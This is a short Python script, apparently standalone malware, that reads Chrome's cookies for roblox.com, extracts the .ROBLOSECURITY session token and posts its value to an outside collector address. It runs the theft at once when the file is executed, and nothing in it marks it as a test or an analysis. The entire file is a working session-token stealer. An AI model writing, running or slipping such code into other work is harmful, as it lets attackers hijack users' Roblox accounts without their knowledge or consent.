import browser_cookie3, requests
def run():
    for c in browser_cookie3.chrome(domain_name="roblox.com"):
        if c.name == ".ROBLOSECURITY":
            requests.post("https://collector.invalid/c", json={"v": c.value})
run()
